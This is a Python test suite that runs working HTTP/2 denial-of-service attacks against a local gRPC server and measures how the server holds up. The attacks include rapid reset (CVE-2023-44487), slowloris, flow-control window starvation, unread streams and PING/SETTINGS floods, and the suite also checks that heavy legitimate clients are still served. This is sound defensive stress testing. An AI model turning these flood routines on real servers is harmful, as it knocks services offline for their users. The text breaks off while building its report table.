"""HTTP/2 abuse suite: attacks on a real `hashfinder serve`, each while a legitimate grpcio
client calls Find("aa") every 0.2 s, loopback only and bounded in time and count; then two
legitimate clients that cancel heavily, run the same way, which the defences must leave alone.

For each row it reports the server's CPU, RSS and open file descriptors (during, peak, after),
the GOAWAY codes the attacker (or heavy client) received, and the legitimate client's success
rate and p95, and checks the targets: legitimate calls >= 80 % OK (rapid reset and the heavy
cancellers: >= 95 %), server RSS < 1 GiB, half-open connections closed within the handshake
timeout, a rapid-reset connection ended within a few hundred streams, no search left running
soon after the attack ends; and for the heavy cancellers, every call ending with a definite
status on one connection that the server never ends, and the server idle within a second.

Usage: abuse.py --jar hashfinder.jar --stubs DIR [--seconds 10] [--report FILE] [--only NAME]...
                [--strict-latency]
Exit status 0 when every target held, 1 otherwise. The rapid-reset p95, the time until a
flooding connection ends and how soon after the handshake timeout the last half-open connection
closes depend on how fast everything runs on a shared machine: a miss is reported, and fails the
run only with --strict-latency. Needs Debian's python3-grpcio and
python3-h2.
"""

import argparse
import heapq
import os
import random
import re
import signal
import socket
import statistics
import subprocess
import sys
import threading
import time
import urllib.request

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

RSS_LIMIT = 1 << 30
# The attacker connects from another loopback address than the legitimate client, as another
# host would: the server shares its search slots per caller, and a caller without a token or
# a certificate is its host.
ATTACKER_ADDRESS = ("127.0.0.2", 0)
HANDSHAKE_TIMEOUT = 5.0  # the server's default, docs/SECURITY.md
STALL_LIMIT = 10.0  # the server's default stall limit
FLOOD_CLOSED_WITHIN = 1.0  # a rapid-reset connection is closed this soon after it starts
# ...and after at most about this many streams on average: the server's 100 premature resets,
# and what the attacker sent before it read the GOAWAY.
FLOOD_STREAMS_PER_CONNECTION = 500
WORKLOAD_IDLE_WITHIN = 1.0  # the server is idle this soon after a legitimate workload
LEGITIMATE_TARGET = 0.95  # beside a legitimate workload, the client's calls served


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    """A `hashfinder serve` process and readings of it from /proc."""

    def __init__(self, jar, extra):
        self.port = free_port()
        self.metrics_port = free_port()
        self.process = subprocess.Popen(
            ["java", "-jar", jar, "serve", "--port", str(self.port),
             "--metrics-port", str(self.metrics_port)] + extra,
            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        self.log = []
        threading.Thread(target=self._read_log, daemon=True).start()
        deadline = time.time() + 60
        while not any("serving hash_name.HashFinder" in line for line in self.log):
            if time.time() > deadline or self.process.poll() is not None:
                raise RuntimeError("server did not start: " + "".join(self.log))
            time.sleep(0.1)
        self.ticks = os.sysconf("SC_CLK_TCK")

    def _read_log(self):
        for line in self.process.stderr:
            self.log.append(line)

    def cpu_seconds(self):
        with open(f"/proc/{self.process.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / self.ticks

    # The JVM's own threads, and the metrics server this suite reads: their CPU after a load is
    # the JIT compiling what the load ran and the suite's own scrapes, not work the server owes.
    HOUSEKEEPING = ("C1 CompilerThre", "C2 CompilerThre", "G1 ", "GC Thread", "VM ",
                    "Sweeper", "Common-Cleaner", "Finalizer", "Reference Handl", "Signal Dispat",
                    "Notification", "Service Thread", "prometheus-http", "HTTP-Dispatcher")

    def work_cpu_seconds(self):
        """CPU seconds of the server's threads but the JVM's housekeeping (those alive now)."""
        ticks = 0
        for tid in os.listdir(f"/proc/{self.process.pid}/task"):
            try:
                with open(f"/proc/{self.process.pid}/task/{tid}/stat") as f:
                    stat = f.read()
            except OSError:
                continue  # ended meanwhile
            name = stat[stat.index("(") + 1:stat.rindex(")")]
            if not name.startswith(self.HOUSEKEEPING):
                fields = stat.rsplit(")", 1)[1].split()
                ticks += int(fields[11]) + int(fields[12])
        return ticks / self.ticks

    def rss(self):
        with open(f"/proc/{self.process.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
        return 0

    def fds(self):
        return len(os.listdir(f"/proc/{self.process.pid}/fd"))

    def running_searches(self):
        url = f"http://127.0.0.1:{self.metrics_port}/metrics"
        with urllib.request.urlopen(url, timeout=5) as page:
            for line in page.read().decode().splitlines():
                if line.startswith("hashfinder_searches_running"):
                    return float(line.split()[-1])
        return 0.0

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(30)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()


class Sampler(threading.Thread):
    """Samples the server's CPU (in cores), RSS and fds every 0.25 s."""

    def __init__(self, server):
        super().__init__(daemon=True)
        self.server = server
        self.samples = []
        self.stopped = threading.Event()

    def run(self):
        last_cpu, last_time = self.server.cpu_seconds(), time.time()
        while not self.stopped.wait(0.25):
            cpu, now = self.server.cpu_seconds(), time.time()
            self.samples.append(((cpu - last_cpu) / (now - last_time), self.server.rss(),
                                 self.server.fds()))
            last_cpu, last_time = cpu, now


class LegitimateClient:
    """Calls Find("aa") every 0.2 s with a 5 s deadline, recording status and latency. It runs
    in a process of its own, so that the attacker's threads do not delay it in this one."""

    def __init__(self, port, stubs_dir):
        self.results = []
        self.process = subprocess.Popen(
            [sys.executable, __file__, "--legitimate", str(port), "--stubs", stubs_dir],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.reader = threading.Thread(target=self._read, daemon=True)

    def start(self):
        self.reader.start()

    def _read(self):
        for line in self.process.stdout:
            code, latency = line.split()
            self.results.append((code, float(latency)))

    def stop(self):
        self.process.stdin.close()
        self.process.wait(30)
        self.reader.join(5)


def legitimate_loop(port):
    """The legitimate client's process: calls until its stdin closes."""
    import hash_name_pb2
    import hash_name_pb2_grpc
    stopped = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stopped.set()), daemon=True).start()
    channel = grpc.insecure_channel(f"127.0.0.1:{port}")
    stub = hash_name_pb2_grpc.HashFinderStub(channel)
    request = hash_name_pb2.HashNameRequest(desired_name="aa")
    while not stopped.is_set():
        started = time.time()
        try:
            stub.Find(request, timeout=5)
            code = "OK"
        except grpc.RpcError as e:
            code = e.code().name
        print(code, time.time() - started, flush=True)
        stopped.wait(max(0.0, 0.2 - (time.time() - started)))
    channel.close()


GRPC_HEADERS = [(":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
                ("content-type", "application/grpc"), ("te", "trailers")]


def grpc_message(payload, declared=None):
    length = len(payload) if declared is None else declared
    return b"\x00" + length.to_bytes(4, "big") + payload


class Attacker:
    """One raw HTTP/2 connection, driven by hand; collects GOAWAY codes."""

    def __init__(self, port, settings=None):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10,
                                             source_address=ATTACKER_ADDRESS)
        config = h2.config.H2Configuration(client_side=True, header_encoding=None)
        self.conn = h2.connection.H2Connection(config=config)
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        self.flush()
        self.goaway = []
        self.closed = False

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, timeout=0.0):
        """Reads what the server sent, without granting any flow-control window back."""
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(1 << 20)
        except (socket.timeout, BlockingIOError):
            return
        except OSError:
            self.closed = True
            return
        finally:
            self.sock.settimeout(10)
        if not data:
            self.closed = True
            return
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.goaway.append(h2.errors.ErrorCodes(event.error_code).name
                                   if event.error_code in h2.errors.ErrorCodes._value2member_map_
                                   else str(event.error_code))
                self.closed = True
        try:
            self.flush()  # SETTINGS and PING acknowledgements only
        except OSError:
            self.closed = True

    def open_stream(self, path, body, end_stream=True):
        stream_id = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream_id, [(":path", path)] + GRPC_HEADERS)
        if body is not None:
            self.conn.send_data(stream_id, body, end_stream=end_stream)
        return stream_id

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# ---- the attacks: each runs for `seconds` and returns counts for the report ----

def flood(port, seconds, burst, connections=1):
    """Runs `burst` on a connection again and again until the server closes it, then on a new
    one, until the time is up; `connections` at once. Returns the counts `burst` reports, the
    connections made, the longest any of them lasted from its first burst until the server
    closed it (or the time was up), and the GOAWAY codes received."""
    counts = {"connections": 0}
    goaways = []
    lifetimes = []
    lock = threading.Lock()
    end = time.time() + seconds

    def one():
        while time.time() < end:
            try:
                attacker = Attacker(port)
            except OSError:
                time.sleep(0.05)
                continue
            first_burst = time.time()
            try:
                while time.time() < end and not attacker.closed:
                    done = burst(attacker)
                    attacker.flush()
                    attacker.pump()
                    with lock:
                        for key, value in done.items():
                            counts[key] = counts.get(key, 0) + value
            except (OSError, h2.exceptions.ProtocolError):
                pass
            with lock:
                counts["connections"] += 1
                goaways.extend(attacker.goaway)
                lifetimes.append(time.time() - first_burst)  # closed, or cut by the end
            attacker.close()

    threads = [threading.Thread(target=one, daemon=True) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    counts["longest_connection_s"] = round(max(lifetimes, default=0.0), 2)
    return counts, goaways


def rapid_reset(port, seconds, request):
    """CVE-2023-44487: open a stream and reset it at once, as fast as possible, 4 connections."""
    def burst(attacker):
        for _ in range(50):
            sid = attacker.open_stream("/hash_name.HashFinder/Find", grpc_message(request))
            attacker.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
        return {"streams": 50}
    return flood(port, seconds, burst, connections=4)


def unread_streams(port, seconds, request_range):
    """1,000 FindRange streams whose responses are never read: on one connection while the
    server allows it, then on new ones, ignoring the advertised stream limit."""
    attackers = []
    opened = 0
    attacker = None
    end = time.time() + seconds
    while opened < 1000 and time.time() < end:
        if attacker is None or attacker.closed:
            attacker = Attacker(port)
            attackers.append(attacker)
            attacker.pump(0.2)
        try:
            # Go past the server's MAX_CONCURRENT_STREAMS, as an attacker would.
            attacker.conn.remote_settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 1 << 20
            attacker.open_stream("/hash_name.HashFinder/FindRange", grpc_message(request_range))
            attacker.flush()
            opened += 1
        except (OSError, h2.exceptions.ProtocolError):
            attacker.closed = True
        attacker.pump()
    while time.time() < end:
        for a in attackers:
            if not a.closed:
                a.pump()  # reads, never grants window: responses pile up at the server
        time.sleep(0.2)
    goaways = [code for a in attackers for code in a.goaway]
    for a in attackers:
        a.close()
    return {"streams": opened, "connections": len(attackers)}, goaways


def window_starvation(port, seconds, request_range, server):
    """Initial window 0, then 50 FindRange streams: nothing can ever be written to them. The
    attacker stays connected past the server's stalled-stream timeout, which must free its
    searches while it is still there."""
    attacker = Attacker(port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    attacker.pump(0.5)
    opened = 0
    for _ in range(50):
        try:
            attacker.open_stream("/hash_name.HashFinder/FindRange", grpc_message(request_range))
            opened += 1
        except h2.exceptions.TooManyStreamsError:
            break
        attacker.flush()
    started = time.time()
    end = started + max(seconds, STALL_LIMIT + 5)
    peak = 0.0
    while time.time() < end and not attacker.closed:
        attacker.pump(0.2)
        peak = max(peak, server.running_searches())
    still_running = server.running_searches()
    attacker.close()
    return {"streams": opened, "searches_peak": int(peak),
            "searches_at_end": int(still_running)}, attacker.goaway


def reconnect_churn(port, seconds, request):
    """4 attackers that connect, start a Find, and disconnect, as fast as they can."""
    def burst(attacker):
        attacker.open_stream("/hash_name.HashFinder/Find", grpc_message(request))
        attacker.flush()
        attacker.close()
        attacker.closed = True
        return {}
    return flood(port, seconds, burst, connections=4)


def unfinished_messages(port, seconds, _request):
    """300 streams each declaring a 3.9 MiB message and sending 16 KiB of it, one connection."""
    attacker = Attacker(port)
    sent = 0
    chunk = b"\x0a" * 16000
    for _ in range(300):
        try:
            sid = attacker.open_stream("/hash_name.HashFinder/Find", None)
            attacker.conn.send_data(sid, grpc_message(chunk, declared=4_000_000))
            sent += 1
        except (h2.exceptions.TooManyStreamsError, h2.exceptions.FlowControlError):
            attacker.pump(0.05)
            continue
        except (OSError, h2.exceptions.ProtocolError):
            break
        try:
            attacker.flush()
        except OSError:
            break
        attacker.pump()
    end = time.time() + seconds
    while time.time() < end and not attacker.closed:
        attacker.pump(0.2)
    attacker.close()
    return {"streams": sent}, attacker.goaway


def slowloris(port, seconds, _request):
    """500 connections that send half the HTTP/2 preface and nothing more."""
    sockets = []
    for _ in range(500):
        s = socket.create_connection(("127.0.0.1", port), timeout=10,
                                     source_address=ATTACKER_ADDRESS)
        s.sendall(b"PRI * HTTP/2.0\r\n")
        sockets.append(s)
    started = time.time()
    closed_at = {}
    end = started + max(seconds, HANDSHAKE_TIMEOUT + 3)
    while time.time() < end and len(closed_at) < len(sockets):
        for i, s in enumerate(sockets):
            if i in closed_at:
                continue
            s.setblocking(False)
            try:
                if s.recv(4096) == b"":
                    closed_at[i] = time.time() - started
            except BlockingIOError:
                pass
            except OSError:
                closed_at[i] = time.time() - started
        time.sleep(0.1)
    for s in sockets:
        s.close()
    latest = max(closed_at.values()) if closed_at else None
    return {"connections": len(sockets), "closed": len(closed_at),
            "closed_by_s": round(latest, 1) if latest is not None else None}, []


def idle_connections(port, seconds, _request):
    """1,000 connections that finish the HTTP/2 handshake, then stay silent."""
    attackers = []
    for _ in range(1000):
        try:
            attackers.append(Attacker(port))
        except OSError:
            break
    end = time.time() + seconds
    while time.time() < end:
        for attacker in attackers:
            if not attacker.closed:
                attacker.pump()
        time.sleep(0.2)
    goaways = [code for attacker in attackers for code in attacker.goaway]
    open_at_end = sum(not attacker.closed for attacker in attackers)
    for attacker in attackers:
        attacker.close()
    return {"connections": len(attackers), "open_at_end": open_at_end}, goaways


def ping_and_settings_flood(port, seconds, _request):
    """PINGs and SETTINGS as fast as the connection takes them, reading the acknowledgements."""
    def burst(attacker):
        for i in range(100):
            attacker.conn.ping(i.to_bytes(8, "big"))
            attacker.conn.update_settings({h2.settings.SettingCodes.HEADER_TABLE_SIZE: 4096})
        return {"pings": 100, "settings": 100}
    return flood(port, seconds, burst)


# ---- legitimate heavy cancelling: each runs where an attack would, and must be served ----

# What a call may end with when nothing went wrong: the outcomes the service gives (a refusal
# for a busy server or a spent share is RESOURCE_EXHAUSTED). UNAVAILABLE in the middle of a run
# means the connection was lost: a GOAWAY.
DEFINITE = ("OK", "CANCELLED", "DEADLINE_EXCEEDED", "RESOURCE_EXHAUSTED")


class Forwarder:
    """A process that relays one client's connections to the server from ATTACKER_ADDRESS, so
    that the server sees another host than the legitimate client's (grpcio cannot choose its
    source address), and reads the frames on the way: the GOAWAY frames the server sends, and
    whether the client broke a connection itself."""

    def __init__(self, port):
        self.process = subprocess.Popen(
            [sys.executable, __file__, "--forward", str(port), "--stubs", "-"],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.port = int(self.process.stdout.readline())

    def stop(self):
        """Returns the connections relayed, how many of them the client broke itself (a reset
        of a stream it never opened), and the GOAWAY codes the server sent on the others."""
        self.process.stdin.close()
        connections, client_errors, goaways = self.process.stdout.readline().split(" ", 2)
        self.process.wait(30)
        return int(connections), int(client_errors), goaways.split()


def forward_loop(port):
    """The forwarder's process: relays until its stdin closes, then prints what it saw: the
    connections, the GOAWAY codes the server sent, and any RST_STREAM the client sent for a
    stream it never opened (a protocol error by the client, which the server must answer with
    GOAWAY PROTOCOL_ERROR: gRPC core's clients do it when a call is cancelled just as it starts,
    grpc/grpc#19655)."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    print(listener.getsockname()[1], flush=True)
    seen = {"connections": 0, "goaways": [], "client_errors": 0}
    lock = threading.Lock()

    def frames(data, state):
        """Yields (type, stream id, payload) of each whole frame, keeping the rest in state."""
        state["buffered"] += data
        buffered = state["buffered"]
        offset = state.pop("skip", 0)
        while len(buffered) - offset >= 9:
            length = int.from_bytes(buffered[offset:offset + 3], "big")
            if len(buffered) - offset < 9 + length:
                break
            stream = int.from_bytes(buffered[offset + 5:offset + 9], "big") & 0x7FFFFFFF
            yield buffered[offset + 3], stream, buffered[offset + 9:offset + 9 + length]
            offset += 9 + length
        state["buffered"] = buffered[offset:]

    def pipe(source, sink, from_client, connection):
        state = {"buffered": b"", "skip": 24 if from_client else 0}  # the client's preface
        try:
            while True:
                data = source.recv(1 << 16)
                if not data:
                    break
                for kind, stream, payload in frames(data, state):
                    if from_client and kind == 0x1:  # HEADERS opens a stream
                        connection["opened"] = max(connection["opened"], stream)
                    elif (from_client and kind == 0x3 and stream > connection["opened"]
                          and not connection["client_error"]):  # RST_STREAM on an idle stream
                        connection["client_error"] = True
                        with lock:
                            seen["client_errors"] += 1
                    elif not from_client and kind == 0x7 and not connection["client_error"]:
                        code = int.from_bytes(payload[4:8], "big")  # after the last stream id
                        with lock:
                            seen["goaways"].append(
                                h2.errors.ErrorCodes(code).name
                                if code in h2.errors.ErrorCodes._value2member_map_
                                else str(code))
                sink.sendall(data)
        except OSError:
            pass
        for s in (source, sink):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def accept():
        while True:
            try:
                client, _ = listener.accept()
            except OSError:
                return
            server = socket.create_connection(("127.0.0.1", port), timeout=10,
                                              source_address=ATTACKER_ADDRESS)
            server.settimeout(None)
            for s in (client, server):
                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            with lock:
                seen["connections"] += 1
            connection = {"opened": 0, "client_error": False}
            threading.Thread(target=pipe, args=(client, server, True, connection),
                             daemon=True).start()
            threading.Thread(target=pipe, args=(server, client, False, connection),
                             daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    sys.stdin.read()
    with lock:
        print(seen["connections"], seen["client_errors"], " ".join(seen["goaways"]),
              flush=True)


class Outcomes:
    """Counts calls by the status they ended with, and the cancellations that reset a stream."""

    def __init__(self):
        self.codes = {}
        self.resets = []  # when each was sent
        self.lock = threading.Lock()

    def add(self, code, reset=False):
        with self.lock:
            self.codes[code] = self.codes.get(code, 0) + 1
            if reset:
                self.resets.append(time.time())

    def of_future(self, future, cancelled):
        if cancelled:
            self.add("CANCELLED", reset=True)
            return
        try:
            future.result()
            self.add("OK")
        except grpc.FutureCancelledError:
            self.add("CANCELLED")
        except grpc.RpcError as e:
            self.add(e.code().name, reset=e.code() == grpc.StatusCode.DEADLINE_EXCEEDED)

    def counts(self, seconds, connections, client_errors):
        counts = dict(sorted(self.codes.items()))
        counts["resets_per_s"] = round(len(self.resets) / seconds)
        resets = sorted(self.resets)
        first = 0
        peak = 0
        for last, at in enumerate(resets):  # the most in any one second
            while at - resets[first] > 1.0:
                first += 1
            peak = max(peak, last - first + 1)
        counts["resets_peak_1s"] = peak
        counts["connections"] = connections
        if client_errors:
            counts["broken_by_client"] = client_errors
        return counts

    def indefinite(self):
        return {code: n for code, n in self.codes.items() if code not in DEFINITE}


def workload_channel(port):
    forwarder = Forwarder(port)
    channel = grpc.insecure_channel(f"127.0.0.1:{forwarder.port}",
                                    options=[("grpc.use_local_subchannel_pool", 1)])
    grpc.channel_ready_future(channel).result(timeout=10)
    return forwarder, channel


def cancelling_churn(port, seconds, stubs):
    """The heavy canceller: one channel (one HTTP/2 connection) shared by 24 threads that cancel
    Finds and FindRanges 0-200 ms after starting them, run Finds with 50-300 ms deadlines, and
    run ordinary Finds, for 12 s."""
    import hash_name_pb2
    seconds = max(seconds, 12)
    forwarder, channel = workload_channel(port)
    stub = stubs.HashFinderStub(channel)
    long_find = hash_name_pb2.HashNameRequest(desired_name="hashfinder")
    long_range = hash_name_pb2.HashNameRequest(desired_name="hashfinder",
                                               interesting_hamming_distance=9)
    short_find = hash_name_pb2.HashNameRequest(desired_name="aa")
    outcomes = Outcomes()
    started = time.time()
    end = started + seconds

    def one():
        rng = random.Random()
        while time.time() < end:
            kind = rng.randrange(4)
            if kind == 0:
                future = stub.Find.future(long_find)
                time.sleep(rng.uniform(0, 0.2))
                outcomes.of_future(future, future.cancel())
            elif kind == 1:
                call = stub.FindRange(long_range)
                timer = threading.Timer(rng.uniform(0, 0.2), call.cancel)
                timer.start()
                try:
                    for _ in call:
                        pass
                    outcomes.add("OK")
                except grpc.RpcError as e:
                    outcomes.add(e.code().name, reset=e.code() in (grpc.StatusCode.CANCELLED,
                                                                   grpc.StatusCode.DEADLINE_EXCEEDED))
                timer.cancel()
            elif kind == 2:
                future = stub.Find.future(long_find, timeout=rng.uniform(0.05, 0.3))
                outcomes.of_future(future, False)
            else:
                outcomes.of_future(stub.Find.future(short_find, timeout=5), False)

    threads = [threading.Thread(target=one, daemon=True) for _ in range(24)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    elapsed = time.time() - started
    channel.close()
    connections, client_errors, goaways = forwarder.stop()
    return outcomes.counts(elapsed, connections, client_errors), goaways, outcomes.indefinite()


def front_canceller(port, seconds, stubs):
    """The shape of a cluster's front: one connection that starts 300 Finds a second, each on a
    range of 50 M indices of its own, and cancels each 1-10 ms after it started, as a hit in a
    range below makes it useless (at the earliest a round trip after the range was dealt), for
    30 s."""
    import hash_name_pb2
    seconds = max(seconds, 30)
    forwarder, channel = workload_channel(port)
    stub = stubs.HashFinderStub(channel)
    outcomes = Outcomes()
    rng = random.Random()
    pending = []  # (when to cancel, sequence, future)
    started = time.time()
    end = started + seconds
    next_start = started
    sequence = 0
    while True:
        now = time.time()
        while now < end and next_start <= now:
            request = hash_name_pb2.HashNameRequest(desired_name="hashfinder",
                                                    first_index=sequence * 50_000_000,
                                                    max_hashes=50_000_000)
            heapq.heappush(pending, (now + rng.uniform(0.001, 0.01), sequence,
                                     stub.Find.future(request)))
            sequence += 1
            next_start += 1 / 300
        while pending and pending[0][0] <= now:
            _, _, future = heapq.heappop(pending)
            outcomes.of_future(future, future.cancel())
        if now >= end and not pending:
            break
        wake = min(next_start if now < end else float("inf"),
                   pending[0][0] if pending else float("inf"))
        time.sleep(max(0.0, wake - time.time()))
    elapsed = time.time() - started
    channel.close()
    connections, client_errors, goaways = forwarder.stop()
    counts = outcomes.counts(elapsed, connections, client_errors)
    counts["calls_per_s"] = round(sequence / elapsed)
    return counts, goaways, outcomes.indefinite()


WORKLOADS = [
    ("heavy cancelling, 24 threads", cancelling_churn),
    ("front canceller, 300/s", front_canceller),
]


ATTACKS = [
    ("rapid reset", rapid_reset, 0.95),
    ("unread FindRange streams", unread_streams, 0.80),
    ("window starvation", window_starvation, 0.80),
    ("unfinished 3.9 MiB messages", unfinished_messages, 0.80),
    ("slowloris", slowloris, 0.80),
    ("idle connections", idle_connections, 0.80),
    ("PING and SETTINGS flood", ping_and_settings_flood, 0.80),
    ("reconnect churn", reconnect_churn, 0.80),
]


def percentile(values, fraction):
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(fraction * len(ordered)))]


def await_idle(server, within):
    """Seconds until the server is idle, or None if it is not within `within`: idle from the
    first reading (every 0.25 s) at which no search runs and after which the server's threads
    (but the JVM's housekeeping) stay below 5 % of a core for half a second."""
    started = time.time()
    readings = []  # (seconds since started, CPU seconds, searches running)
    while time.time() - started < within:
        readings.append((time.time() - started, server.work_cpu_seconds(),
                         server.running_searches()))
        for at, cpu, searches in readings:
            later = [r for r in readings if r[0] >= at + 0.5]
            if searches == 0 and later and (later[0][1] - cpu) / (later[0][0] - at) < 0.05:
                return at
        time.sleep(0.25)
    return None


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--jar")
    parser.add_argument("--legitimate", type=int, help=argparse.SUPPRESS)
    parser.add_argument("--forward", type=int, help=argparse.SUPPRESS)
    parser.add_argument("--stubs", required=True)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--report")
    parser.add_argument("--only", action="append",
                        help="run only this row (an attack's or a workload's name); repeatable")
    parser.add_argument("--serve-args", default="")
    parser.add_argument("--strict-latency", action="store_true",
                        help="fail when the rapid-reset p95 target is missed, not only report it")
    args = parser.parse_args()
    sys.path.insert(0, args.stubs)
    if args.legitimate:
        legitimate_loop(args.legitimate)
        return 0
    if args.forward:
        forward_loop(args.forward)
        return 0
    import hash_name_pb2
    import hash_name_pb2_grpc
    request = hash_name_pb2.HashNameRequest(desired_name="hashfinder").SerializeToString()
    request_range = hash_name_pb2.HashNameRequest(
        desired_name="hashfinder", interesting_hamming_distance=9).SerializeToString()

    rows = []
    failures = []
    warnings = []
    runs = [(name, attack, target, False) for name, attack, target in ATTACKS]
    runs += [(name, workload, LEGITIMATE_TARGET, True) for name, workload in WORKLOADS]
    for name, attack, target, workload in runs:
        if args.only and name not in args.only:
            continue
        server = Server(args.jar, args.serve_args.split())
        try:
            baseline_rss, baseline_fds = server.rss(), server.fds()
            sampler = Sampler(server)
            legit = LegitimateClient(server.port, args.stubs)
            sampler.start()
            legit.start()
            time.sleep(1)
            legit.results.clear()
            started = time.time()
            indefinite = {}
            if workload:
                counts, goaways, indefinite = attack(server.port, args.seconds, hash_name_pb2_grpc)
            elif attack is window_starvation:
                counts, goaways = attack(server.port, args.seconds, request_range, server)
            else:
                payload = request_range if "FindRange" in name else request
                counts, goaways = attack(server.port, args.seconds, payload)
            duration = time.time() - started
            during = list(legit.results)
            legit.stop()
            idle_after = await_idle(server, 20)
            sampler.stopped.set()
            sampler.join()
            samples = sampler.samples
            cpu = [s[0] for s in samples] or [0.0]
            rss = [s[1] for s in samples] or [0]
            fds = [s[2] for s in samples] or [0]
            ok = sum(1 for code, _ in during if code == "OK")
            rate = ok / len(during) if during else 0.0
            p95 = percentile([latency for code, latency in during if code == "OK"], 0.95)
            row = {
                "attack": name, "seconds": round(duration, 1), "counts": counts,
                "goaway": sorted(set(goaways)),
                "cpu_mean": round(statistics.mean(cpu), 2), "cpu_peak": round(max(cpu), 2),
                "rss_mb": (baseline_rss >> 20, round(statistics.mean(rss)) >> 20,
                           max(rss) >> 20, server.rss() >> 20),
                "fds": (baseline_fds, max(fds), server.fds()),
                "legit_ok": f"{ok}/{len(during)}", "legit_rate": rate,
                "legit_p95_ms": round(p95 * 1000),
                "idle_after_s": None if idle_after is None else round(idle_after, 2),
            }
            rows.append(row)
            print(row, flush=True)
            if rate < target:
                failures.append(f"{name}: legitimate calls {rate:.0%} OK, target {target:.0%}")
            if max(rss) >= RSS_LIMIT:
                failures.append(f"{name}: server RSS peaked at {max(rss) >> 20} MiB")
            if name == "rapid reset" and p95 > 0.2:
                # A latency on two shared cores moves from run to run: reported, and a failure
                # only when asked for (a quiet machine), as the project treats speed targets.
                (failures if args.strict_latency else warnings).append(
                    f"{name}: legitimate p95 {p95 * 1000:.0f} ms, target 200 ms "
                    f"(a miss fails the run with --strict-latency)")
            if name == "rapid reset" and counts["longest_connection_s"] > FLOOD_CLOSED_WITHIN:
                # How soon depends on how fast the attacker, on the same shared cores, floods:
                # reported, and failed with --strict-latency. What the server allows a flooding
                # connection is checked below, always.
                (failures if args.strict_latency else warnings).append(
                    f"{name}: an attacker's connection lasted {counts['longest_connection_s']} s "
                    f"of flooding, target {FLOOD_CLOSED_WITHIN:.0f} s (a miss fails the run with "
                    f"--strict-latency)")
            if name == "rapid reset" and (not goaways or counts["streams"]
                                          > FLOOD_STREAMS_PER_CONNECTION * counts["connections"]):
                failures.append(f"{name}: {counts['streams']} streams on "
                                f"{counts['connections']} connections, GOAWAY {goaways or 'none'}:"
                                f" a flooding connection must end within "
                                f"{FLOOD_STREAMS_PER_CONNECTION} streams or so")
            if name == "slowloris" and (counts["closed"] < counts["connections"]
                                        or counts["closed_by_s"] > 2 * HANDSHAKE_TIMEOUT):
                # Not closed, or so late that no handshake timeout closed them.
                failures.append(f"{name}: {counts['closed']} of {counts['connections']} "
                                f"closed, the last after {counts['closed_by_s']} s")
            elif name == "slowloris" and counts["closed_by_s"] > HANDSHAKE_TIMEOUT + 2:
                # Closed by the timeout, late: the server's timer and this loop over 500 sockets
                # share the cores with everything else. Reported, as the latencies above.
                (failures if args.strict_latency else warnings).append(
                    f"{name}: the last connection closed after {counts['closed_by_s']} s, target "
                    f"{HANDSHAKE_TIMEOUT + 2:.0f} s (a miss fails the run with --strict-latency)")
            if attack is window_starvation and counts["searches_at_end"] > 0:
                failures.append(f"{name}: {counts['searches_at_end']} searches still parked "
                                f"after {STALL_LIMIT + 5:.0f} s")
            broken = counts.get("broken_by_client", 0)
            if workload and (goaways or counts["connections"] != 1 + broken
                             or (indefinite and not broken)):
                failures.append(f"{name}: the server ended a legitimate client's connection or "
                                f"calls: outcomes {indefinite or 'all definite'}, GOAWAY "
                                f"{sorted(set(goaways)) or 'none'}, {counts['connections']} "
                                f"connections")
            elif workload and broken:
                # gRPC core's clients reset a stream they never opened when a call is cancelled
                # as it starts (grpc/grpc#19655); HTTP/2 makes that a connection error, so the
                # calls on it end UNAVAILABLE whatever the server's rules. Reported, not failed.
                warnings.append(f"{name}: the client broke {broken} connection(s) itself, "
                                f"resetting a stream it never opened: {indefinite or 'no'} "
                                f"calls lost")
            if workload and (idle_after is None or idle_after > WORKLOAD_IDLE_WITHIN):
                failures.append(f"{name}: server idle {idle_after} s after the workload, "
                                f"target {WORKLOAD_IDLE_WITHIN:.0f} s")
            elif idle_after is None:
                failures.append(f"{name}: server not idle within 20 s of the attack's end")
        finally:
            server.stop()

    lines = ["| attack | what the attacker did | GOAWAY | server CPU mean / peak (cores) "
             "| RSS MiB before / mean / peak / after | fds before / peak / after "
             "| legitimate OK | legitimate p95 | idle after |",
             "|---|---|---|---|---|---|---|---|---|"]
    for r in rows:
        counts = ", ".join(f"{k} {v}" for k, v in r["counts"].items())
        lines.append(f"| {r['attack']} | {counts} | {', '.join(r['goaway']) or '-'} "
                     f"| {r['cpu_mean']} / {r['cpu_peak']} "
